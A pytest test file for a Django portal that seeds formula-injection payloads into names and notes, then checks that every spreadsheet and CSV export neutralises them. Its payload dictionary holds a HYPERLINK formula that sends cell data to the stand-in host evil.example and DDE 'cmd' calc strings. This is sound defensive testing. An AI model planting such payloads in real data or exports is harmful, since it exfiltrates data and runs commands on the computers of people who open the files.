"""Formula injection: names and notes that start with ``=``, ``+``, ``-``, ``@``, a tab or
a carriage return come out of every export as text, never as something a spreadsheet
would evaluate. The exports are found, not listed: every URL of the portal is opened and
those answering with a spreadsheet are checked (the dashboard's per-table exports are
found through the links on the dashboard)."""

import csv
import io
import re

import pytest
from django.db import transaction
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from households.models import Household, Member
from loans.models import SavingsGroup
from outreach.models import Contact, TeamMember
from trainings.models import Course, Enrolment, Session

from .test_state_changes import EVERY_URL, url_of
from .world import Place, build_world

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
SPREADSHEETS = (XLSX, "text/csv")
DANGEROUS = ("=", "+", "-", "@")
CONTROL = ("\t", "\r")
PAYLOADS = {
    "head": '=HYPERLINK("http://evil.example/?"&A1,"Bấm")',
    "member": "+1+cmd|' /C calc'!A0",
    "group": "-2+3",
    "course": "@SUM(1+1)*cmd|' /C calc'!A0",
    "team": "\t=1+1",
    "note": "\r=1+1",
    "walk_in": " =1+1",
    "trainer": "=2+2",
}


def poison(place: Place) -> None:
    """Formula payloads in the place's free text (written directly: no form allows it)."""
    Household.objects.filter(pk=place.household.pk).update(head_name=PAYLOADS["head"])
    Member.objects.filter(household=place.household, relation="head").update(
        full_name=PAYLOADS["head"]
    )
    Member.objects.filter(pk=place.member.pk).update(full_name=PAYLOADS["member"])
    SavingsGroup.objects.filter(pk=place.group.pk).update(name=PAYLOADS["group"])
    Course.objects.filter(pk=place.course.pk).update(title=PAYLOADS["course"])
    TeamMember.objects.filter(pk=place.team_member.pk).update(
        full_name=PAYLOADS["team"]
    )
    Contact.objects.filter(pk=place.contact.pk).update(note=PAYLOADS["note"])
    Enrolment.objects.filter(pk=place.walk_in.pk).update(full_name=PAYLOADS["walk_in"])
    Enrolment.objects.filter(pk=place.enrolment.pk).update(full_name=PAYLOADS["member"])
    Session.objects.filter(pk=place.session.pk).update(trainer=PAYLOADS["trainer"])


@pytest.fixture(scope="module")
def world(django_db_setup, django_db_blocker):
    with django_db_blocker.unblock(), transaction.atomic():
        world = build_world()
        poison(world.a)
        yield world
        transaction.set_rollback(True)


def cells(response) -> list[tuple[str, object, str]]:
    """(where, value, openpyxl data type) of every non-empty cell."""
    if response["Content-Type"].startswith("text/csv"):
        text = b"".join(response).decode("utf-8-sig")
        return [
            (f"row {n}", value, "s")
            for n, row in enumerate(csv.reader(io.StringIO(text)))
            for value in row
            if value
        ]
    content = (
        b"".join(response.streaming_content) if response.streaming else response.content
    )
    book = load_workbook(io.BytesIO(content))
    return [
        (f"{sheet.title}!{cell.coordinate}", cell.value, cell.data_type)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value not in (None, "")
    ]


def is_number(value) -> bool:
    return isinstance(value, int | float) or bool(
        re.fullmatch(r"-?[\d.,]+( ₫|%)?", str(value))
    )


def spreadsheet_urls(client, w) -> list[str]:
    urls = []
    for name in EVERY_URL:
        url = url_of(name, w)
        response = client.get(url)
        if response.get("Content-Type", "").startswith(SPREADSHEETS):
            urls.append(url)
    dashboard = client.get(reverse("dashboard:home")).content.decode()
    urls += sorted(
        set(re.findall(r'href="([^"]*/export/[\w-]+\.xlsx[^"]*)"', dashboard))
    )
    return [u.replace("&amp;", "&") for u in urls]


def test_every_export_neutralises_formulas(w):
    client = Client()
    client.force_login(w.official)
    urls = spreadsheet_urls(client, w)
    # The registry, loans, overdue, period report, sessions, courses, contacts, coverage,
    # applications, rosters, the dashboard's report and at least one of its tables.
    assert len(urls) >= 14, urls
    seen_payloads = set()
    for url in urls:
        for where, value, data_type in cells(client.get(url)):
            assert data_type != "f" or not any(
                p.strip() in str(value) for p in PAYLOADS.values()
            ), f"{url} {where}: a formula built from user text: {value!r}"
            if not isinstance(value, str) or is_number(value):
                continue
            assert not value.startswith(CONTROL), f"{url} {where}: {value!r}"
            assert not value.lstrip().startswith(DANGEROUS), f"{url} {where}: {value!r}"
            seen_payloads |= {k for k, p in PAYLOADS.items() if value == "'" + p}
    # The payloads did reach the exports (neutralised), so the checks above bite.
    assert {"head", "member", "group", "course"} <= seen_payloads, seen_payloads
